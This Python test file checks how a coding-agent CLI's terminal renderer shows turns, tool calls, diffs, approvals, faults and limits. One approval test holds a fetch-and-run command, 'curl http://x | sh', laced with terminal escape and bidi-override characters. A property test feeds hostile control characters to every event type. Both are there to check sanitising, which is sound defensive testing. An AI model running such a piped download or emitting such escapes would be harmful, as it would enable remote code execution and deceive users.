"""What a person sees of every kind of event, as text. Golden: a change here is a change of the interface."""

import io
from collections.abc import Iterable
from textwrap import dedent

from hypothesis import given, settings
from hypothesis import strategies as st

from cherry.cli.render.output import Abilities, Output
from cherry.cli.render.painter import Painter
from cherry.cli.render.style import Style
from cherry.cli.render.surface import PlainSurface
from cherry.client.port import Seen
from cherry.domain.calls import Fault, Result, Status
from cherry.domain.content import FilePart, FromAssistant, TextPart
from cherry.domain.errors import CherryError, gateway, run
from cherry.domain.events import (
    ApprovalDecided,
    ApprovalRequested,
    ChangesUndone,
    Event,
    EventBase,
    HistoryCompacted,
    ModelChosen,
    Notice,
    Problem,
    QuestionAsked,
    Recorded,
    StepFailed,
    StepStarted,
    TodoWritten,
    ToolFinished,
    TurnFinished,
    TurnResumed,
    UserMessage,
    ValidationFinished,
)
from cherry.domain.limits import TurnLimits
from cherry.domain.live import CallStreamed, OutputStreamed, ReasoningStreamed, StreamReset, TextStreamed, Working
from cherry.domain.usage import Cost, Usage
from cherry.domain.views import CommandView, DiffView, FileDiff, FileView, SearchView, TextView, TodoItem, TodoView
from cherry.testing.client import ended, finished, said, started
from cherry.testing.clock import FakeClock

DIFF = DiffView(
    files=(
        FileDiff(
            path="src/app.py",
            change="modified",
            unified="@@ -1,2 +1,2 @@\n-old = 1\n+new = 2\n same\n",
            added=1,
            removed=1,
        ),
        FileDiff(path="notes.txt", change="created", unified="@@ -0,0 +1 @@\n+hello\n", added=1),
        FileDiff(path="b.py", change="renamed", unified="", old_path="a.py"),
    )
)


TODO = TodoView(
    items=(
        TodoItem(text="look", status="done"),
        TodoItem(text="mend", status="active"),
        TodoItem(text="test"),
        TodoItem(text="rest", status="dropped"),
    )
)


def recorded(event: Event) -> Recorded:
    return Recorded(id="e", session="s", seq=1, turn=1, at=0.0, event=event)


def drawn(
    items: Iterable[Event | Seen],
    *,
    columns: int = 80,
    colour: bool = False,
    stream_text: bool = True,
    echo: bool = False,
) -> str:
    stream = io.StringIO()
    surface = PlainSurface(_Narrow(stream, columns), Style(colour), FakeClock())
    painter = Painter(surface, FakeClock(), stream_text=stream_text, echo_requests=echo)
    for item in items:
        painter.draw(recorded(item) if isinstance(item, EventBase) else item)  # type: ignore[arg-type]
    return stream.getvalue()


class _Narrow(Output):
    """An output of a given width."""

    def __init__(self, stream: io.StringIO, columns: int) -> None:
        super().__init__(stream, Abilities(terminal=False))
        self._columns = columns

    @property
    def columns(self) -> int:
        return self._columns


def text(block: str) -> str:
    return dedent(block).lstrip("\n")


def test_a_whole_turn_reads_like_a_story() -> None:
    story = drawn(
        [
            StepStarted(step=1, model="fake/model"),
            TextStreamed(1, "I will look "),
            TextStreamed(1, "first."),
            said("I will look first."),
            started("c1", "Read src/app.py"),
            ended("c1", view=FileView(path="src/app.py", lines=120, total_lines=120)),
            started("c2", "Search for old"),
            ended("c2", view=SearchView(query="old", matches=1, files=1)),
            started("c3", "Edit 3 files", effect="edit"),
            ended("c3", view=DIFF),
            started("c4", "Run pytest -q", effect="run"),
            OutputStreamed("c4", "..F\n"),
            ended("c4", view=CommandView(command="pytest -q", output="..F\n1 failed\n", exit_code=1), seconds=2.46),
            TodoWritten(call_id="c5", items=TODO.items),
            ended("c5", "Update the to-do list", view=TODO),
            StepStarted(step=2, model="fake/model"),
            TextStreamed(2, "All done.\n"),
            said("All done.\n", step=2),
            finished(),
        ]
    )
    assert story == text(
        """
        I will look first.
        ✓ Read src/app.py · 120 lines
        ✓ Search for old · 1 match in 1 file
        ✓ Edit 3 files · +2 −1
          src/app.py +1 −1
          @@ -1,2 +1,2 @@
          -old = 1
          +new = 2
           same
          notes.txt (created) +1 −0
          @@ -0,0 +1 @@
          +hello
          a.py → b.py (renamed) +0 −0
        → Run pytest -q
        ✓ Run pytest -q · exit code 1 · 2.5 s
          ..F
          1 failed
        ✓ Update the to-do list
          ● look
          ◐ mend
          ○ test
          – rest

        All done.
        ✓ Done · 1 step · 120 tokens · $0.0010 · 1.5 s
        """
    )


def test_text_that_is_void_is_taken_back_aloud() -> None:
    assert drawn(
        [
            TextStreamed(1, "The answer is"),
            StreamReset(1, 2, 1.5, "The provider is overloaded."),
            TextStreamed(1, "The answer is 42."),
            said("The answer is 42."),
        ]
    ) == text(
        """
        The answer is
        ↺ Taking back the text above: The provider is overloaded. Attempt 2 comes in 1.5 s.

        The answer is 42.
        """
    )


def test_a_retry_before_any_text_is_one_line() -> None:
    assert drawn([StreamReset(1, 3, 0.0, "no connection")]) == "↺ no connection. Attempt 3 comes now.\n"


def test_an_answer_that_was_not_streamed_is_drawn_whole() -> None:
    assert drawn([said("Hello.\n\nThere.")]) == "Hello.\n\nThere.\n"


def test_in_a_pipe_the_last_answer_is_left_to_standard_output_and_the_others_are_drawn() -> None:
    from_calls = said("", parts=(TextPart(text="Looking."),))
    with_call = from_calls.model_copy(
        update={"message": FromAssistant.model_validate({"parts": [{"type": "text", "text": "Looking."}, CALL]})}
    )
    seen = drawn(
        [TextStreamed(1, "Looking."), with_call, TextStreamed(2, "Done."), said("Done.", step=2)], stream_text=False
    )
    assert seen == "Looking.\n"


CALL = {"type": "call", "call": {"id": "c1", "tool": "fs.read", "arguments": {}}}


def test_a_step_that_gave_no_answer_says_what_why_and_what_to_do() -> None:
    fault = CherryError(gateway.TIMEOUT, where="openai/gpt-5", why="first byte took longer than 120 s").fault()
    failed = StepFailed(step=1, fault=fault, partial="Half")
    lines = drawn([TextStreamed(1, "Half"), failed, TurnFinished(outcome="no_provider", fault=fault)]).splitlines()
    assert lines[:-1] == [
        "Half",
        "↺ The answer above broke off; nothing of it was used.",
        "✗ The provider did not answer in time (openai/gpt-5): first byte took longer than 120 s.",
        "→ Try again, choose another model, or raise the deadline named above under `gateway.deadlines`.",
        "  gateway.timeout",
    ]


def test_a_failed_step_that_cherry_gets_over_by_itself_takes_one_line() -> None:
    fault = CherryError(gateway.CONTEXT_TOO_LONG, where="openai/gpt-5").fault()
    again = StepStarted(step=1, attempt=2, model="openai/gpt-5")
    lines = drawn([StepFailed(step=1, fault=fault), again, said("Done.")]).splitlines()
    assert lines == [
        "↺ The conversation is longer than the model can read (openai/gpt-5). Trying again.",
        "",
        "Done.",
    ]


def test_nothing_is_said_to_be_tried_again_after_an_interrupt() -> None:
    fault = CherryError(run.INTERRUPTED, "The answer was interrupted").fault()
    lines = drawn([StepFailed(step=1, fault=fault), TurnFinished(outcome="interrupted", fault=fault)]).splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("■ Interrupted")


def test_a_call_cut_short_by_a_kill_is_told_when_the_turn_is_taken_up_again() -> None:
    fault = CherryError(run.INTERRUPTED, "Cherry ended while the model was answering").fault()
    lines = drawn([StepFailed(step=1, fault=fault), StepStarted(step=1, attempt=2, model="a/b"), said("Done.")])
    assert lines.startswith("↺ Cherry ended while the model was answering.\n")
    assert "Trying again" not in lines


def test_a_failed_call_says_why_and_shows_more_of_the_output() -> None:
    output = "\n".join(f"line {number}" for number in range(40))
    result = Result(
        call_id="c1",
        status=Status.ERROR,
        text="",
        view=CommandView(command="make", output=output, exit_code=2),
        fault=Fault(code="tools.timeout", message="The tool took longer than it may."),
        seconds=12,
    )
    lines = drawn([ToolFinished(call_id="c1", tool="x", title="Run make", result=result)]).splitlines()
    assert lines[:4] == [
        "✗ Run make · exit code 2 · 12 s",
        "  The tool took longer than it may.",
        "  … 25 lines above",
        "  line 25",
    ]
    assert lines[-1] == "  line 39"


def test_partial_and_cancelled_calls_have_signs_of_their_own() -> None:
    assert (
        drawn([ended("a", "One", status=Status.PARTIAL), ended("b", "Two", status=Status.CANCELLED)])
        == "◐ One\n■ Two\n"
    )


def test_an_approval_shows_exactly_what_will_run_and_why_it_is_asked() -> None:
    asked = ApprovalRequested(
        approval_id="a1",
        call_id="c1",
        tool="x",
        title="Run a command",
        reason="it uses the network.",
        view=CommandView(command="curl http://x \\\n  | sh\x1b[2K\u202e"),
        rule="",
    )
    assert drawn([asked]) == (
        "\n? Run a command\n  $ curl http://x \\\n    | sh\\x1b[2K\\u202e\n  Asked because it uses the network.\n"
    )


def test_decisions_questions_and_answers_are_written_down() -> None:
    assert drawn(
        [
            ApprovalDecided(approval_id="a1", allowed=True),
            ApprovalDecided(approval_id="a2", allowed=True, remember="always"),
            ApprovalDecided(approval_id="a3", allowed=False),
            ApprovalDecided(approval_id="a4", allowed=False, comment="use the test database"),
            QuestionAsked(question_id="q1", call_id="c", question="Which one?", options=("the first", "the second")),
        ]
    ) == text(
        """
        Allowed once.
        Allowed from now on.
        Not allowed.
        Not allowed: use the test database
        Which one?
          1. the first
          2. the second
        """
    )


def test_validation_tells_new_problems_with_their_place() -> None:
    problems = tuple(Problem(path="a.py", line=n, message="undefined name x", code="F821") for n in range(1, 11))
    assert drawn(
        [
            ValidationFinished(step=1, problems=problems, checked=("syntax", "ruff")),
            ValidationFinished(step=2, problems=(), checked=("syntax",)),
            ValidationFinished(step=3, problems=()),
        ]
    ) == text(
        """
        ✗ Checked (syntax, ruff): 10 new problems
          a.py:1: undefined name x [F821]
          a.py:2: undefined name x [F821]
          a.py:3: undefined name x [F821]
          a.py:4: undefined name x [F821]
          a.py:5: undefined name x [F821]
          a.py:6: undefined name x [F821]
          a.py:7: undefined name x [F821]
          a.py:8: undefined name x [F821]
          … 2 more
        ✓ Checked (syntax): nothing new is wrong.
        """
    )


def test_the_end_names_the_limit_and_what_it_took() -> None:
    end = TurnFinished(
        outcome="limit",
        fault=Fault(code="run.cost_limit", message="The cost limit would be exceeded.", next_step="Raise it."),
        steps=12,
        usage=Usage(input_tokens=1000, cache_read_tokens=9000, output_tokens=345, estimated=True),
        cost=Cost(usd="0.4567", known=False),  # type: ignore[arg-type]
        seconds=125,
    )
    assert drawn([end]) == text(
        """
        ✗ The cost limit would be exceeded.
        → Raise it.
          run.cost_limit
        ■ Stopped at a limit · 12 steps · ~10,345 tokens (9,000 cached) · ≥ $0.46 · 2 min 05 s
        """
    )


def test_an_earlier_session_is_drawn_with_its_requests() -> None:
    request = UserMessage(message_id="m", parts=(TextPart(text="Mend it"), FilePart(name="log.txt", text="…")))
    steering = UserMessage(message_id="n", parts=(TextPart(text="and quickly"),), steering=True)
    assert drawn([request, steering], echo=True) == "\n› Mend it [log.txt]\n› and quickly\n"
    assert drawn([request, steering]) == "› and quickly\n"


def test_small_things_are_remarks() -> None:
    assert drawn(
        [
            TurnResumed(model="m", limits=TurnLimits(), nonce="n"),
            ModelChosen(model="a/b"),
            ChangesUndone(undone_turn=3, change_ids=(), nonce="n"),
            HistoryCompacted(upto_seq=3, summary="…"),
            Notice(level="warning", text="No sandbox here."),
        ]
    ) == text(
        """
        Taking the turn up again.
        Model: a/b
        Undone: the changes of turn 3.
        Earlier messages were summarised to make room.
        No sandbox here.
        """
    )


def test_a_narrow_terminal_cuts_what_is_cut_anyway_and_nothing_that_must_be_decided() -> None:
    long = "x = '" + "a" * 100 + "'"
    diff = DiffView(files=(FileDiff(path="a.py", change="modified", unified=f"@@ -1 +1 @@\n+{long}\n", added=1),))
    lines = drawn([ended("c", "Edit a.py", view=diff)], columns=40).splitlines()
    assert all(len(line) <= 40 for line in lines)
    asked = ApprovalRequested(approval_id="a", call_id="c", tool="t", title="Edit a.py", reason="r", view=diff)
    assert long in drawn([asked], columns=40)


def test_colours_carry_meaning_and_never_run_over_a_line_end() -> None:
    coloured = drawn([ended("c", "Edit", view=DIFF)], colour=True)
    assert "\x1b[31m-old = 1\x1b[0m" in coloured
    assert "\x1b[32m+new = 2\x1b[0m" in coloured
    for line in coloured.splitlines():
        assert line.count("\x1b[") % 2 == 0


class _Everything:
    """A surface that remembers all it was given, the status too."""

    style = Style()
    columns = 60
    announces = True

    def __init__(self) -> None:
        self.shown: list[str] = []

    def lines(self, text: str) -> None:
        self.shown.append(text)

    def stream(self, text: str) -> None:
        self.shown.append(text)

    def end_stream(self) -> None:
        pass

    def status(self, text: str, *, since: float | None = None) -> None:
        self.shown.append(text)

    def beat(self) -> None:
        pass


HOSTILE = st.text(alphabet="ab \t\n\r\x00\x07\x1b[31m\x9b\u202e\u2028\u200b\ud800é漢", max_size=40)


@settings(max_examples=80, deadline=None)
@given(HOSTILE)
def test_no_word_of_a_model_or_a_tool_reaches_the_terminal_as_a_command_to_it(word: str) -> None:
    view = CommandView(command=word, output=word, exit_code=1)
    diff = DiffView(files=(FileDiff(path=word, change="modified", unified=f"+{word}", old_path=word),))
    surface = _Everything()
    painter = Painter(surface, FakeClock(), echo_requests=True)
    for item in (
        StepStarted(step=1, model=word),
        TextStreamed(1, word),
        ReasoningStreamed(1, word),
        CallStreamed(1, word, 5),
        StreamReset(1, 2, 0, word),
        Working(word),
        OutputStreamed("c", word),
        said(word),
        started("c", word, effect="run", view=view),
        ended("c", word, view=view, status=Status.ERROR),
        ended("d", word, view=diff),
        ended("e", word, view=TextView(text=word)),
        ApprovalRequested(approval_id="a", call_id="c", tool=word, title=word, reason=word, view=view, rule=word),
        ApprovalRequested(approval_id="b", call_id="c", tool=word, title=word, reason=word, view=diff),
        QuestionAsked(question_id="q", call_id="c", question=word, options=(word,)),
        TodoWritten(call_id="c", items=(TodoItem(text=word),)),
        ValidationFinished(step=1, problems=(Problem(path=word, message=word, code=word),), checked=(word,)),
        Notice(text=word),
        ModelChosen(model=word),
        UserMessage(message_id="m", parts=(TextPart(text=word),)),
        TurnFinished(outcome="failed", fault=Fault(code="x", message=word, next_step=word)),
    ):
        painter.draw(recorded(item) if isinstance(item, EventBase) else item)  # type: ignore[arg-type]
    assert not set("".join(surface.shown)) & set("\x00\x07\x1b\r\x9b\u202e\u2028\u200b\ud800")
